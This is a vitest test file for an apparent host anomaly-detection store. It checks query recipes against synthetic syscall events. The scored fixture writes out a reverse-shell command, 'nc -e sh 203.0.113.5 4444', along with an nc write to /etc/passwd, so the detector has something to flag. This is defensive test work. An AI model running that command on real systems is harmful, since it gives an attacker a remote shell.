import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { JsonValue } from '../dist/duck/json-value.js';
import { listRecipes, loadRecipe } from '../dist/store/recipes.js';
import { Store } from '../dist/store/store.js';
import { batchOf, type EventRow, START_US, scoresOf, tableOf } from './store-dataset.js';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

/** A shell (proc 10, child of sshd, proc 1) runs curl (20); in the scored run it runs nc (30), which is new. */
const shell = { host: 'web1', user: 'alice', exe: '/usr/bin/bash', args: 'bash', pid: 10, proc: 10n, parent_proc: 1n };
const sshd: EventRow = {
  host: 'web1',
  user: 'root',
  exe: '/usr/sbin/sshd',
  args: 'sshd',
  pid: 1,
  proc: 1n,
  syscall: 'exec',
};
const curl = {
  host: 'web1',
  user: 'alice',
  exe: '/usr/bin/curl',
  parent_exe: '/usr/bin/bash',
  proc: 20n,
  parent_proc: 10n,
};
const nc = {
  host: 'web1',
  user: 'alice',
  exe: '/usr/bin/nc',
  parent_exe: '/usr/bin/bash',
  proc: 30n,
  parent_proc: 10n,
};
const web = { daddr: '192.0.2.7', dport: 443, proto: 'tcp' };

const TRAINED: EventRow[] = [
  sshd,
  { ...shell, syscall: 'exec' },
  { ...curl, syscall: 'exec', args: 'curl https://a' },
  { ...curl, ...web, syscall: 'connect' },
  { ...curl, ...web, syscall: 'connect' },
  { ...curl, ...web, syscall: 'close', bytes_out: 100n, bytes_in: 900n },
  { ...curl, daddr: '192.0.2.8', dport: 80, proto: 'tcp', syscall: 'connect' },
  // Two clients of one service: their ports are no ports of the program.
  { ...sshd, syscall: 'accept', sport: 22, dport: 50_001, proto: 'tcp' },
  { ...sshd, syscall: 'accept', sport: 22, dport: 50_002, proto: 'tcp' },
];
const SCORED: EventRow[] = [
  { ...shell, syscall: 'exec' },
  { ...nc, syscall: 'exec', args: 'nc -e sh 203.0.113.5 4444' },
  { ...nc, daddr: '203.0.113.5', dport: 4444, proto: 'tcp', syscall: 'connect' },
  { ...nc, path: '/etc/passwd', flags: 'O_WRONLY|O_APPEND', syscall: 'open' },
  { ...curl, path: '/etc/hosts', flags: 'O_RDONLY', syscall: 'open' },
  { syscall: 'lost', reason: 'ring_full', cpu: 1, count: 17n },
];

const stamp = (rows: EventRow[]) => rows.map((row, i) => ({ ts: START_US + BigInt(i) * 1_000_000n, ...row }));

let store: Store;

async function run(
  name: string,
  given: Record<string, string> = {},
  from = store,
): Promise<Record<string, JsonValue>[]> {
  const query = await from.recipe(name, given);
  const rows: Record<string, JsonValue>[] = [];
  for await (const row of query.rows()) rows.push(Object.fromEntries(query.columns.map((c, i) => [c, row[i]!])));
  return rows;
}

beforeAll(async () => {
  store = await Store.open(':memory:');
  const table = tableOf();
  const train = await store.beginRun({ kind: 'train', key: 't' });
  await store.appendBatch(train.run, batchOf('t/0', stamp(TRAINED), table));
  await store.finishRun({ run: train.run, rows: TRAINED.length, bad: {} });
  const score = await store.beginRun({ kind: 'score', key: 's', snapshot: 1 });
  const parts = [
    { exe: 0.5 },
    { exe: 12, args: 3 },
    { exe: 9, dport: 11 },
    { exe: 2, path: 1 },
    { exe: 1, path: 2 },
    {},
  ];
  const flags = Uint8Array.from([0, 1, 3, 0, 0, 4]);
  const { firstEvent: firstScored } = await store.appendBatch(score.run, batchOf('s/0', stamp(SCORED), table), [
    scoresOf(parts, ['exe', 'args', 'dport', 'path'], { flags }),
    scoresOf(parts, ['dport'], { dims: 5, flags: Uint8Array.from([4, 4, 0, 4, 4, 4]) }),
  ]);
  await store.finishRun({ run: score.run, rows: SCORED.length, bad: {} });
  const minute = Number(START_US / 60_000_000n);
  const who = { host: 'web1', wholeHost: false, exe: '/usr/bin/nc', user: 'alice' };
  const carried = { alert: 1, trust: 1, rhythm: null };
  const none = { minute: null, wholeHost: null, feature: null, sizeSeconds: null, value: null, typical: null };
  const window = { minute, wholeHost: false, feature: 'connections', sizeSeconds: 60, value: 9, typical: 1 };
  await store.commit({
    alerts: {
      run: score.run,
      alerts: [
        { alert: 1, minute, worst: minute, ...who, score: 8, lnP: -9, closedForm: true, thresholdLnP: -7, updates: 0 },
      ],
      evidence: [
        { ...carried, ...none, rank: 1, kind: 'event', lnP: -10, event: firstScored + 2 },
        { ...carried, ...window, rank: 2, kind: 'window', lnP: -3, event: null },
      ],
    },
  });
});

afterAll(() => store.close());

describe('recipes', () => {
  it('are eighteen, each with a title, an answer and parameters that it uses', () => {
    const recipes = listRecipes();
    expect(recipes).toHaveLength(18);
    for (const recipe of recipes) {
      expect(recipe.title.length).toBeGreaterThan(5);
      expect(recipe.doc).toMatch(/\?/);
      for (const parameter of recipe.parameters) expect(recipe.sql).toContain(`$${parameter.name}`);
    }
  });

  it('refuse unknown names, names that leave the folder and unknown parameters', async () => {
    for (const name of ['nothing', '../factors', '', 'top-surprise.sql']) {
      expect(() => loadRecipe(name)).toThrow(expect.objectContaining({ code: 'BAD_ARGUMENT' }));
    }
    await expect(store.recipe('losses', { exe: 'x' })).rejects.toMatchObject({ code: 'BAD_ARGUMENT' });
    for (const [name, value] of [
      ['limit', 'abc'],
      ['run', 'newest'],
    ]) {
      const message = expect.stringMatching(new RegExp(`^--param ${name} requires a whole number.*, got "${value}"$`));
      await expect(store.recipe('top-surprise', { [name!]: value! })).rejects.toMatchObject({
        code: 'BAD_ARGUMENT',
        message,
      });
    }
  });

  it('top-surprise: the connect of nc first, by its port', async () => {
    const rows = await run('top-surprise', { limit: '2' });
    expect(rows.map((r) => [r.exe, r.syscall, r.bits, r.mostly, r.extrapolated])).toEqual([
      ['/usr/bin/nc', 'connect', 20, 'dport', true],
      ['/usr/bin/nc', 'exec', 15, 'exe', true],
    ]);
    expect(await run('top-surprise', { run: '1' })).toEqual([]);
    expect(await run('top-surprise', { dims: '5' })).toMatchObject([{ exe: '/usr/bin/nc', bits: 11 }]);
  });

  it('by-dimension: known parts only, shares sum to 100', async () => {
    const rows = await run('by-dimension');
    expect(rows.map((r) => [r.dimension, r.known])).toEqual([
      ['exe', 5],
      ['dport', 1],
      ['args', 1],
      ['path', 2],
    ]);
    expect(rows.reduce((sum, r) => sum + Number(r.share_percent), 0)).toBeCloseTo(100, 0);
  });

  it('new-programs: nc, from bash', async () => {
    const rows = await run('new-programs');
    expect(rows.map((r) => [r.exe, r.first_parent, r.events, r.processes])).toEqual([
      ['/usr/bin/nc', '/usr/bin/bash', 3, 1],
    ]);
  });

  it('who-talks-to-whom: curl twice to one place, bytes from its close', async () => {
    const rows = await run('who-talks-to-whom');
    expect(rows[0]).toMatchObject({
      exe: '/usr/bin/curl',
      destination: '192.0.2.7',
      dport: 443,
      connects: 2,
      bytes_in: 900,
    });
    expect(rows).toHaveLength(3);
  });

  it('normal-for-exe: only training, shares within a dimension', async () => {
    const rows = await run('normal-for-exe', { exe: '/usr/bin/curl' });
    expect(rows.filter((r) => r.dimension === 'dport').map((r) => [r.value, r.n, r.share])).toEqual([
      ['443', 3, 0.75],
      ['80', 1, 0.25],
    ]);
    expect(await run('normal-for-exe', { exe: '/usr/bin/nc' })).toEqual([]);
  });

  it('process-tree-of-event: nc, bash, sshd', async () => {
    const event = String((await run('top-surprise', { limit: '1' }))[0]!.event);
    const rows = await run('process-tree-of-event', { event });
    expect(rows.map((r) => [r.depth, r.exe])).toEqual([
      [0, '/usr/bin/nc'],
      [1, '/usr/bin/bash'],
      [2, '/usr/sbin/sshd'],
    ]);
  });

  it('losses: by reason and processor', async () => {
    expect(await run('losses')).toMatchObject([{ run: 2, reason: 'ring_full', cpu: 1, lost: 17, stored: 6 }]);
  });

  it('writes-to-etc: the write and not the read', async () => {
    const rows = await run('writes-to-etc');
    expect(rows).toMatchObject([{ exe: '/usr/bin/nc', syscall: 'open', events: 1, examples: ['/etc/passwd'] }]);
  });

  it('calibration: shares of the scored rows', async () => {
    const rows = await run('calibration');
    expect(rows).toMatchObject([
      { run: 2, dims: 5, scored: 1 },
      { run: 2, dims: 15, scored: 5, below_0_01: 0.4, few: 0.2, extrapolated: 0.4 },
    ]);
  });

  it('alerts: the connect of nc, then its window', async () => {
    const rows = await run('alerts');
    expect(rows.map((r) => [r.alert, r.exe, r.kind, r.syscall, r.target, r.feature])).toEqual([
      [1, '/usr/bin/nc', 'event', 'connect', '203.0.113.5:4444', null],
      [1, '/usr/bin/nc', 'window', null, null, 'connections'],
    ]);
    expect(rows[0]!.ln_p).toBe(-9);
  });

  it('ports-by-program: sshd serves 22, curl connects to 443 and 80', async () => {
    const rows = await run('ports-by-program', { exe: '/usr/%' });
    expect(rows.map((r) => [r.exe, r.side, r.port, r.events])).toEqual([
      ['/usr/bin/curl', 'connects to', 443, 2],
      ['/usr/bin/curl', 'connects to', 80, 1],
      ['/usr/bin/nc', 'connects to', 4444, 1],
      ['/usr/sbin/sshd', 'serves', 22, 2],
    ]);
    expect(rows.map((r) => r.processes)).toEqual([1, 1, 1, 1]);
    const keys = rows.map((r) => [r.exe, r.side, r.proto, r.port].join(' '));
    expect(new Set(keys).size).toBe(rows.length);
  });
});

describe('what training saw', () => {
  const program = (exe: string, more: EventRow = {}): EventRow => ({ ts: START_US, exe, syscall: 'exec', ...more });
  let trained: Store;

  /** Runs in order: 1 trained, 2 scored, 3 trained, 4 training that was killed, 5 scored, 6 trained, 7 killed scoring. */
  beforeAll(async () => {
    trained = await Store.open(':memory:');
    const table = tableOf();
    const runs: ['train' | 'score', EventRow[], 'killed'?][] = [
      [
        'train',
        [program('/bin/a', { user: 'u' }), program('/bin/a', { user: 'u' }), { ts: START_US, syscall: 'lost' }],
      ],
      ['score', [program('/bin/a'), program('/bin/b'), program('/bin/c')]],
      ['train', [program('/bin/b'), program('/bin/a', { user: 'v' })]],
      ['train', [program('/bin/c'), program('/bin/a', { user: 'w' })], 'killed'],
      ['score', [program('/bin/a'), program('/bin/b'), program('/bin/c'), { ts: START_US, syscall: 'lost' }]],
      ['train', [program('/bin/c'), program('/bin/d')]],
      ['score', [program('/bin/e')], 'killed'],
    ];
    for (const [i, [kind, rows, killed]] of runs.entries()) {
      const { run: number } = await trained.beginRun({ kind, key: `${i}` });
      await trained.appendBatch(number, batchOf(`${i}/0`, rows, table));
      if (!killed) await trained.finishRun({ run: number, rows: rows.length, bad: {} });
    }
  });

  afterAll(() => trained.close());

  it('new-programs: against the training that was finished before the run, not after', async () => {
    const names = async (given: Record<string, string>) =>
      (await run('new-programs', given, trained)).map((row) => row.exe);
    expect(await names({})).toEqual(['/bin/c']);
    expect(await names({ run: '5' })).toEqual(['/bin/c']);
    expect(await names({ run: '2' })).toEqual(['/bin/b', '/bin/c']);
    expect(await names({ run: '99' })).toEqual([]);
  });

  it('normal-for-exe: all finished training and no scored run', async () => {
    const rows = await run('normal-for-exe', { exe: '/bin/a' }, trained);
    expect(rows.map((r) => [r.dimension, r.value, r.n, r.share])).toEqual([
      ['syscall', 'exec', 3, 1],
      ['user', 'u', 2, 0.6667],
      ['user', 'v', 1, 0.3333],
    ]);
    expect(await run('normal-for-exe', { exe: '/bin/a', top: '1' }, trained)).toHaveLength(2);
  });
});
